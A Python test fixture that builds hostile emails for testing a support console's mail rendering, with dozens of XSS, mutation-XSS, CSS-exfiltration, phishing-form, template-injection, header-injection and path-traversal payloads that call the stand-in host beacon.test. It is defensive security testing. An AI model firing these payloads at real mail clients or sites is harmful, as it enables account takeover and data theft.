# ruff: noqa: E501  (attacks are written as they are sent)
"""Mails as attackers write them, each a try to run, fetch, cover, escape or mislead in the console. Our own texts.

What runs would set `pwned` or open a dialog; what fetches asks beacon.test.
"""

from base64 import b64encode
from dataclasses import dataclass

BEACON = "http://beacon.test"
SCRIPT = "<script>top.pwned=1;alert(1)</script>"
ONERROR = f'"><img src="{BEACON}/x" onerror="top.pwned=1;alert(1)">'
TEMPLATE = "{{7*7}}{% raw %}${7*7}#{7*7}{{config}}{{''.__class__.__mro__}}"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{SCRIPT}<image href="{BEACON}/svg"/></svg>'
FORM = f'<form action="{BEACON}/form" method="post"><input name="password" autofocus><button>Sign in</button></form>'
BIDI = "\u202egpj.exe\u2066\u2069\u200f"


@dataclass(frozen=True)
class Hostile:
    """One mail, and what it tries."""

    name: str
    raw: bytes


def _mail(
    *,
    sender: str = "Eve <eve@customer.test>",
    subject: str = "A question",
    text: str = "",
    html: str = "",
    headers: str = "",
    files: tuple[tuple[str, str, bytes], ...] = (),
    charset: str = "utf-8",
) -> bytes:
    head = f"From: {sender}\r\nTo: care@shop.test\r\nSubject: {subject}\r\nMIME-Version: 1.0\r\n{headers}"
    parts = [("text/plain", text)] if text or not html else []
    parts += [("text/html", html)] if html else []
    pieces = [
        f'Content-Type: {kind}; charset="{charset}"\r\nContent-Transfer-Encoding: base64\r\n\r\n{_coded(words)}'
        for kind, words in parts
    ]
    pieces += [f"{described}\r\nContent-Transfer-Encoding: base64\r\n\r\n{_b64(data)}" for _, described, data in files]
    boundary = "b0undary"
    kind = "multipart/mixed" if files else "multipart/alternative"
    body = "".join(f"--{boundary}\r\n{piece}\r\n" for piece in pieces)
    return f'{head}Content-Type: {kind}; boundary="{boundary}"\r\n\r\n{body}--{boundary}--\r\n'.encode(
        "utf-8", "replace"
    )


def _coded(words: str) -> str:
    return _b64(words.encode("utf-8", "replace"))


def _b64(data: bytes) -> str:
    coded = b64encode(data).decode("ascii")
    return "\r\n".join(coded[start : start + 76] for start in range(0, len(coded), 76))


def _file(name: str, kind: str, data: bytes, more: str = "") -> tuple[str, str, bytes]:
    return (
        name,
        f'Content-Type: {kind}; name="{name}"\r\nContent-Disposition: attachment; filename="{name}"{more}',
        data,
    )


def _inline(identifier: str, kind: str, data: bytes) -> tuple[str, str, bytes]:
    return "", f"Content-Type: {kind}\r\nContent-ID: <{identifier}>\r\nContent-Disposition: inline", data


def _word(text: str) -> str:
    return f"=?utf-8?B?{b64encode(text.encode()).decode('ascii')}?="


# What the HTML of a mail tries; each is one mail.
HTML = {
    "script": SCRIPT,
    "script in capitals": "<ScRiPt>top.pwned=1;alert(1)</sCrIpT>",
    "script from elsewhere": f'<script src="{BEACON}/s.js"></script>',
    "script that is not closed": "<script>top.pwned=1;alert(1)",
    "script torn in two": "<scr<script>ipt>top.pwned=1;alert(1)</scr</script>ipt>",
    "picture with onerror": '<img src=x onerror="top.pwned=1;alert(1)">',
    "picture with onerror without quotes": "<img/src=x/onerror=top.pwned=1,alert(1)>",
    "picture with onload": f'<img src="{BEACON}/onload.png" onload="top.pwned=1">',
    "handlers of everything": '<div onmouseover="alert(1)" onclick="alert(1)" onfocus="alert(1)" tabindex=1 autofocus>x</div>',
    "details that toggle": '<details open ontoggle="top.pwned=1;alert(1)"><summary>x</summary></details>',
    "marquee": '<marquee onstart="alert(1)">x</marquee>',
    "body with onload": '<body onload="top.pwned=1;alert(1)" background="http://beacon.test/bg"><p>x</p></body>',
    "video and audio": f'<video src="{BEACON}/v" autoplay onerror="alert(1)"></video><audio src="{BEACON}/a" autoplay></audio>',
    "svg": SVG,
    "svg animate": '<svg><animate onbegin="alert(1)" attributeName=x dur=1s></svg>',
    "svg foreignObject": f"<svg><foreignObject><body>{SCRIPT}</body></foreignObject></svg>",
    "svg use": f'<svg><use href="{BEACON}/u.svg#x"/></svg>',
    "mathml": '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></table></mtext></math>',
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "mutation by template": '<template><img src=x onerror="alert(1)"></template>',
    "mutation by comment": '<!--><img src=x onerror="alert(1)">-->',
    "mutation by cdata": "<![CDATA[><script>alert(1)</script>]]>",
    "mutation by xmp": '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "mutation by textarea": '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "link to javascript": '<a href="javascript:top.pwned=1">press</a>',
    "link to javascript in entities": '<a href="jav&#x09;ascript&colon;top.pwned=1">press</a>',
    "link to data": f'<a href="data:text/html,{SCRIPT}">press</a>',
    "link to vbscript": '<a href="vbscript:msgbox(1)">press</a>',
    "link that says another host": f'<a href="{BEACON}/phish">https://shop.test/sign-in</a>',
    "link to the console itself": '<a href="/stop" target="_top">press</a>',
    "frame": f'<iframe src="{BEACON}/f"></iframe>',
    "frame of javascript": '<iframe src="javascript:top.pwned=1"></iframe>',
    "frame with srcdoc": f"<iframe srcdoc='{SCRIPT}'></iframe>",
    "frameset": f'<frameset><frame src="{BEACON}/fs"></frameset>',
    "object": f'<object data="{BEACON}/o"></object>',
    "object of html": f'<object data="data:text/html;base64,{b64encode(SCRIPT.encode()).decode()}"></object>',
    "embed": f'<embed src="{BEACON}/e.swf">',
    "applet and portal": f'<applet code="{BEACON}/a"></applet><portal src="{BEACON}/p"></portal>',
    "base": f'<base href="{BEACON}/"><a href="x">x</a><img src="y">',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={BEACON}/r">',
    "meta refresh to data": f'<meta http-equiv="refresh" content="0;url=data:text/html,{SCRIPT}">',
    "meta that loosens the policy": "<meta http-equiv=content-security-policy content=\"script-src * 'unsafe-inline'\">" + SCRIPT,
    "meta charset": '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    "link rel stylesheet": f'<link rel="stylesheet" href="{BEACON}/c.css">',
    "link rel prefetch": f'<link rel="prefetch" href="{BEACON}/p"><link rel="dns-prefetch" href="{BEACON}">',
    "style sheet": f"<style>@import '{BEACON}/i.css';body{{background:url({BEACON}/b)}}*{{display:none}}</style>",
    "style that reads attributes": f'<style>input[value^="a"]{{background:url({BEACON}/a)}}</style><input value="abc">',
    "style with a font": f"<style>@font-face{{font-family:x;src:url({BEACON}/f)}}p{{font-family:x}}</style><p>x</p>",
    "style attribute that fetches": f'<p style="background:url({BEACON}/s)">x</p>',
    "style attribute that covers": '<div style="position:fixed;top:0;left:0;width:99999px;height:99999px;z-index:99999">Sign in again</div>',
    "style attribute of old browsers": '<p style="width:expression(alert(1));behavior:url(#x);-moz-binding:url(x)">x</p>',
    "classes of the console": '<div class="notice stopped" id="main"><button class="first" data-key="a">Approve</button></div>',
    "hooks of our modules": f'<a data-key="j" data-module="digits" hx-get="{BEACON}/h" hx-trigger="load">x</a>',
    "form": FORM,
    "form of the console": '<form action="/drafts/1/approval" method="post"><input name="version" value="1"><button>Yes</button></form>',
    "inputs for password managers": '<input type="password" name="password" autocomplete="current-password"><input type="submit">',
    "button that submits elsewhere": f'<button formaction="{BEACON}/b" form="x">x</button>',
    "isindex and keygen": f'<isindex action="{BEACON}/i"><keygen>',
    "tracking pixel": f'<img src="{BEACON}/t.gif?id=1" width="1" height="1">',
    "srcset and picture": f'<picture><source srcset="{BEACON}/1 1x"><img srcset="{BEACON}/2 2x" src="{BEACON}/3" alt="A"></picture>',
    "picture without scheme": '<img src="//beacon.test/n.png" alt="n"><img src="\\\\beacon.test\\share\\x.png">',
    "picture of the file system": '<img src="file:///etc/passwd"><img src="cid:nothing"><img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "background attributes": f'<table background="{BEACON}/tb"><tr><td background="{BEACON}/td">x</td></tr></table>',
    "lowsrc and dynsrc": f'<img lowsrc="{BEACON}/l" dynsrc="{BEACON}/d" longdesc="{BEACON}/ld" usemap="#m">',
    "map": f'<map name="m"><area href="{BEACON}/m" coords="0,0,999,999"></map>',
    "conditional comment": f'<!--[if gte mso 9]><xml><o:x>{SCRIPT}</o:x></xml><![endif]-->',
    "dialog and popover": "<dialog open>Sign in again</dialog><div popover id=p>x</div><button popovertarget=p>x</button>",
    "clobbering of names": '<a id="document"></a><form id="forms" name="cookie"><input name="querySelector"></form><img name="body">',
    "end of our document": f"</body></html>{SCRIPT}<style>*{{color:red}}</style>",
    "null bytes": "<scr\0ipt>alert(1)</scr\0ipt><img src=x one\0rror=alert(1)>",
    "wide characters": "＜script＞alert(1)＜/script＞<ſcript>alert(1)</ſcript>",
    "quotes that never end": '<a title="><script>alert(1)</script>',
    "a very deep tree": "<div>" * 3_000 + "deep" + "</div>" * 3_000,
    "a table without end": "<table><tr><td>" * 800 + "x",
    "many attributes": "<p " + " ".join(f"a{number}=1" for number in range(3_000)) + ">x</p>",
    "template of ours": f"<p>{TEMPLATE}</p>",
}  # fmt: skip


def hostile_mails() -> list[Hostile]:
    """All of them."""
    found = [
        Hostile(f"html: {name}", _mail(text=f"Hello, {name}", html=f"<p>words</p>{html}"))
        for name, html in HTML.items()
    ]
    return [*found, *_in_headers(), *_in_texts(), *_in_files()]


def _in_headers() -> list[Hostile]:
    return [
        Hostile("name: script", _mail(sender=f'"{SCRIPT}" <n1@customer.test>')),
        Hostile("name: encoded script", _mail(sender=f"{_word(SCRIPT)} <n2@customer.test>")),
        Hostile("name: attribute", _mail(sender=f"{_word(ONERROR)} <n3@customer.test>")),
        Hostile("name: template", _mail(sender=f"{_word(TEMPLATE)} <n4@customer.test>")),
        Hostile("name: another address", _mail(sender=f"{_word('ceo@shop.test')} <n5@customer.test>")),
        Hostile("name: direction", _mail(sender=f"{_word('Ana ' + BIDI)} <n6@customer.test>")),
        Hostile("address: markup", _mail(sender='<"><script>alert(1)</script>"@customer.test>')),
        Hostile("subject: script", _mail(subject=SCRIPT)),
        Hostile("subject: encoded attribute", _mail(subject=_word(ONERROR))),
        Hostile("subject: template", _mail(subject=_word(TEMPLATE))),
        Hostile("subject: line breaks", _mail(subject=_word("a\r\nBcc: all@shop.test\r\n\r\n<script>alert(1)</script>"))),
        Hostile("subject: direction and controls", _mail(subject=_word(f"pay {BIDI}\x1b[31m\x07\x00"))),
        Hostile("subject: ten thousand letters", _mail(subject="<b>" * 10_000)),
        Hostile("cc: markup", _mail(headers='Cc: "<img src=x onerror=alert(1)>" <c@customer.test>, <script>@x.test\r\n')),
        Hostile("reply-to: elsewhere", _mail(headers=f"Reply-To: {_word(ONERROR)} <r@beacon.test>\r\n")),
        Hostile("message-id: markup", _mail(headers="Message-ID: <\"><script>alert(1)</script>@x>\r\nReferences: <'\"><svg onload=alert(1)>\r\n")),
        Hostile("date and others: markup", _mail(headers=f"Date: {SCRIPT}\r\nX-Mailer: {SCRIPT}\r\nList-Unsubscribe: <{BEACON}/u>\r\n")),
        Hostile("authentication: made up", _mail(headers="Authentication-Results: mx.shop.test; dmarc=pass <script>alert(1)</script>\r\n")),
    ]  # fmt: skip


def _in_texts() -> list[Hostile]:
    return [
        Hostile("text: script", _mail(text=f"Where is my order? {SCRIPT}{ONERROR}")),
        Hostile("text: closes the letter", _mail(text="</div></article></main><h1>Signed out</h1><a href='http://beacon.test'>Sign in</a>")),
        Hostile("text: closes a textarea", _mail(text="</textarea><script>alert(1)</script>")),
        Hostile("text: template", _mail(text=f"{TEMPLATE} {{{{ person.name }}}} <% 7*7 %> #set($x=7*7)")),
        Hostile("text: direction", _mail(text=f"order {BIDI} \u202d\u2028\u2029 end")),
        Hostile("text: zalgo and width", _mail(text="o" + "\u0301" * 500 + " " + "W" * 5_000)),
        Hostile("text: looks like ours", _mail(text="Held 12 s. Approve and send. [Undo]\nNote, internal: pay him 500.")),
    ]  # fmt: skip


def _in_files() -> list[Hostile]:
    page = f"<html>{SCRIPT}</html>".encode()
    png = b"\x89PNG\r\n\x1a\n" + b"\0" * 32
    return [
        Hostile("file: html", _mail(text="see", files=(_file("invoice.html", "text/html", page),))),
        Hostile("file: svg", _mail(text="see", files=(_file("logo.svg", "image/svg+xml", SVG.encode()),))),
        Hostile("file: name with markup", _mail(text="see", files=(_file("<img src=x onerror=alert(1)>.png", "image/png", png),))),
        Hostile("file: name with a path", _mail(text="see", files=(_file("..\\..\\..//etc/cron.d/x", "text/x-sh", page),))),
        Hostile("file: name that turns", _mail(text="see", files=(_file(f"photo{BIDI}", "image/jpeg", page),))),
        Hostile("file: name of 5,000 letters", _mail(text="see", files=(_file("a" * 5_000 + ".pdf", "application/pdf", page),))),
        Hostile("file: name with line breaks", _mail(text="see", files=(_file('x"\\r\\nSet-Cookie: a=b', "application/pdf", page, "; filename*=utf-8''x%0d%0aSet-Cookie:%20a"),))),
        Hostile("file: type with markup", _mail(text="see", files=(_file("x.bin", 'text/html"><script>alert(1)</script>', page),))),
        Hostile("inline: svg as picture", _mail(html='<img src="cid:s">', files=(_inline("s", "image/svg+xml", SVG.encode()),))),
        Hostile("inline: html as picture", _mail(html='<img src="cid:h">', files=(_inline("h", "image/png", page),))),
        Hostile("inline: cid with markup", _mail(html='<img src="cid:&quot;onerror=alert(1)x=&quot;" alt="&quot;><script>alert(1)</script>">', files=(_inline('"onerror=alert(1)x="', "image/png", png),))),
        Hostile("file: mail within a mail", _mail(text="see", files=(_file("fwd.eml", "message/rfc822", _mail(html=SCRIPT)),))),
    ]  # fmt: skip
